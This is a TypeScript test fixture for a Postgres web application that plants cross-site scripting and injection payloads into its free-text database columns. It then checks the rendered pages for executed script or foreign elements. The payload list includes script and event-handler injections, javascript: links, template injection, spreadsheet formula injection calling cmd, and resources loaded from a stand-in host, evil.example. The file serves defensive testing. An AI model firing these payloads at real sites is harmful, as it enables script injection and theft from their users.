import type { Client } from 'pg'
import { asRole } from '../server/test/as-role.ts'
import type { TestHouse } from '../server/test/test-house.ts'

const CALL = 'alert(1)'
const EVIL = 'http://evil.example'

const ELEMENTS = [
  `<script id=xss>${CALL}</script>`,
  `<ScRiPt id=xss>${CALL}</sCrIpT>`,
  `<scr<script id=xss>ipt>${CALL}</script>`,
  `"><script id=xss>${CALL}</script>`,
  `'><script id=xss>${CALL}</script>`,
  `</title><script id=xss>${CALL}</script>`,
  `</textarea><script id=xss>${CALL}</script>`,
  `</script><script id=xss>${CALL}</script>`,
  `--><script id=xss>${CALL}</script>`,
  `]]><script id=xss>${CALL}</script>`,
  `<script id=xss src=${EVIL}/x.js></script>`,
  `<script id=xss src=data:,${CALL}></script>`,
  `<img id=xss src=x onerror=${CALL}>`,
  `<img id=xss src=${EVIL}/x.png>`,
  `<IMG id=xss """><SCRIPT>${CALL}</SCRIPT>">`,
  `<img/id=xss/src=x/onerror=${CALL}>`,
  `<img id=xss src=x onerror=&#97;lert(1)>`,
  `<svg id=xss onload=${CALL}>`,
  `<svg/id=xss/onload=${CALL}//`,
  `<svg id=xss><script>${CALL}</script></svg>`,
  `<svg id=xss><a xlink:href=javascript:${CALL}><text>x`,
  `<svg id=xss><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<math id=xss><mtext><img src=x onerror=${CALL}>`,
  `<body id=xss onload=${CALL}>`,
  `<iframe id=xss src=javascript:${CALL}></iframe>`,
  `<iframe id=xss srcdoc="<script>${CALL}</script>">`,
  `<iframe id=xss src=${EVIL}></iframe>`,
  `<object id=xss data=javascript:${CALL}></object>`,
  `<embed id=xss src=${EVIL}/x.swf>`,
  `<video id=xss><source onerror=${CALL}></video>`,
  `<audio id=xss src=x onerror=${CALL}>`,
  `<details id=xss open ontoggle=${CALL}>x`,
  `<input id=xss autofocus onfocus=${CALL}>`,
  `<select id=xss autofocus onfocus=${CALL}>`,
  `<marquee id=xss onstart=${CALL}>x`,
  `<div id=xss style=background:url(${EVIL}/x)>x`,
  `<style id=xss>*{background:url(${EVIL}/y)}</style>`,
  `<link id=xss rel=stylesheet href=${EVIL}/x.css>`,
  `<meta id=xss http-equiv=refresh content="0;url=${EVIL}">`,
  `<base id=xss href=${EVIL}/>`,
  `<form id=xss action=${EVIL}><button>x</button></form>`,
  `<a id=xss href=javascript:${CALL}>x</a>`,
  `<a id=xss href="java\tscript:${CALL}">x</a>`,
  `<a id=xss href=${EVIL}>x</a>`,
  `<template id=xss><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img id=xss src=x onerror=${CALL}>">`,
  `<!--><img id=xss src=x onerror=${CALL}>-->`,
  `<x id=xss contenteditable autofocus onfocus=${CALL}>x`,
  `<button id=xss onclick=${CALL} popovertarget=x>x</button>`,
  `<isindex id=xss type=image src=1 onerror=${CALL}>`,
]

const WORDS = [
  `javascript:${CALL}//xss`,
  `" onmouseover="${CALL}" id="xss`,
  `' onfocus='${CALL}' autofocus id='xss`,
  `{{constructor.constructor('${CALL}')()}} xss`,
  `\${${CALL}} xss`,
  `=HYPERLINK("${EVIL}";"xss")`,
  `+cmd|'/c xss'!A1`,
  `@SUM(1)*xss`,
  `&lt;script id=xss&gt;${CALL}&lt;/script&gt;`,
  `%3Cscript id=xss%3E${CALL}%3C/script%3E`,
  `\\u003cscript id=xss\\u003e${CALL}`,
  `[xss](javascript:${CALL})`,
  `\u202Exss<script>${CALL}</script>`,
]

/** Every one of these, once it is more than text, shows: an element, a call or a request. */
export const PAYLOADS: readonly string[] = [...ELEMENTS, ...WORDS]

type Place = readonly [table: string, column: string]

/** Where an officer, a file or another agency can put words of their own. */
const FREE_TEXTS: readonly Place[] = [
  ['registers.person', 'family_name'],
  ['registers.person', 'given_name'],
  ['registers.person', 'hamlet'],
  ['registers.person', 'address_detail'],
  ['registers.outgoing_document', 'symbol'],
  ['registers.outgoing_document', 'state_reason'],
  ['access.unit', 'name'],
  ['access.unit', 'decision'],
  ['access.user_account', 'display_name'],
  ['access.assignment', 'decision_number'],
  ['access.session', 'device'],
  ['access.session', 'address'],
  ['access.passkey', 'name'],
  ['access.partner', 'name'],
  ['access.partner', 'decision_number'],
  ['access.proposal', 'reason'],
  ['journey.contact', 'note'],
  ['journey.hand_over', 'document_number'],
  ['journey.hand_over_list', 'note'],
  ['journey.hand_over_paper', 'file_name'],
  ['journey.hand_over_package', 'file_name'],
  ['journey.line_decision', 'note'],
  ['journey.list_line', 'note'],
  ['journey.list_line', 'reason_note'],
  ['journey.list_return', 'note'],
  ['journey.withdrawal_line', 'note'],
  ['journey.withdrawal_step', 'note'],
  ['journey.signature_elsewhere', 'by_name'],
  ['platform.calendar_day', 'name'],
  ['platform.calendar_announcement', 'name'],
  ['platform.notice', 'subject'],
]

/** What was signed or taken in holds such words inside. */
const SIGNED: readonly Place[] = [
  ['journey.list_version', 'content'],
  ['journey.hand_over', 'content'],
  ['journey.withdrawal_version', 'content'],
  ['journey.transfer', 'card'],
  ['journey.list_import', 'rows'],
  ['journey.list_import', 'columns'],
]

const WORDY = /name|note|hamlet|address|heading|symbol|title|text|found|value/i

/** The same value with a hostile text behind every word that a person typed. */
function spoil(value: unknown, key = '', turn = { at: 0 }): unknown {
  if (Array.isArray(value)) return value.map((one) => spoil(one, key, turn))
  if (typeof value === 'string' && WORDY.test(key)) {
    turn.at += 1
    return `${value} ${PAYLOADS[turn.at % PAYLOADS.length]}`
  }
  if (value === null || typeof value !== 'object') return value
  return Object.fromEntries(
    Object.entries(value).map(([name, one]) => [name, spoil(one, name, turn)]),
  )
}

async function spoilSigned(client: Client, [table, column]: Place): Promise<void> {
  const { rows } = await client.query<{ ctid: string; value: unknown }>(
    `select ctid::text as ctid, ${column} as value from ${table} where ${column} is not null`,
  )
  for (const { ctid, value } of rows) {
    const json = JSON.stringify(spoil(value))
    await client.query(`update ${table} set ${column} = $1 where ctid = $2::tid`, [json, ctid])
  }
}

/** Lengths and patterns that the database asks for would save the page; it has to save itself. */
async function dropChecks(client: Client, [table, column]: Place): Promise<void> {
  const { rows } = await client.query<{ name: string }>(
    `select quote_ident(c.conname) as name from pg_constraint c join pg_attribute a
      on a.attrelid = c.conrelid and a.attnum = any (c.conkey)
      where c.contype = 'c' and c.conrelid = $1::regclass and a.attname = $2`,
    [table, column],
  )
  for (const { name } of rows) await client.query(`alter table ${table} drop constraint ${name}`)
}

/** Hostile words in every field, past every check of ours; answers how many fields hold one. */
export async function plantHostileTexts(test: TestHouse): Promise<number> {
  return await asRole(test, 'postgres', async (client) => {
    await client.query('set session_replication_role = replica')
    for (const place of SIGNED) await spoilSigned(client, place)
    let planted = 0
    for (const [at, [table, column]] of FREE_TEXTS.entries()) {
      await dropChecks(client, [table, column])
      const { rowCount } = await client.query(
        `update ${table} set ${column} = ${column} || ' ' ||
          ($1::text[])[1 + abs((hashtext(ctid::text) + $2) % ${PAYLOADS.length})]
          where ${column} is not null`,
        [PAYLOADS, at],
      )
      planted += rowCount ?? 0
    }
    return planted
  })
}

/** Installed in every page before its own scripts: what the browser stopped, and what was called. */
export const WATCH = `(() => {
  window.found = []
  for (const name of ['alert', 'confirm', 'prompt', 'open']) window[name] = () => found.push(name)
  document.addEventListener('securitypolicyviolation', (event) => {
    found.push(event.violatedDirective + ' ' + event.blockedURI)
  })
})()`

/** Elements that no page of ours has, and how many of the planted words are read as words. */
export const LOOK = `(() => {
  const foreign = 'iframe,object,embed,marquee,base,form[action*="evil"],[href*="evil"],[src*="evil"],' +
    '[id*="xss"],[onerror],[onload],[onclick],[onfocus],[ontoggle],[href^="javascript:"]'
  const injected = [...document.querySelectorAll(foreign)].map((one) => one.outerHTML.slice(0, 120))
  const fields = [...document.querySelectorAll('input,textarea')].map((one) => one.value).join(' ')
  const words = (document.body.innerText + fields).split('xss').length - 1
  return { found: [...window.found, ...injected], words }
})()`
